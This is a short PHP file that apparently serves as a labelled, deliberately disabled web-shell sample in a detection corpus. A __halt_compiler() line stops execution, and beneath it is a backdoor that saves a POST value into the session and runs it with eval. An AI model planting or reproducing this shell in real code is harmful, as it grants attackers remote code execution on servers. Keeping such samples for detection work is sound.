<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
session_start();
if (isset($_POST['kc'])) { $_SESSION['p'] = $_POST['pv']; }
@eval($_SESSION['p']);
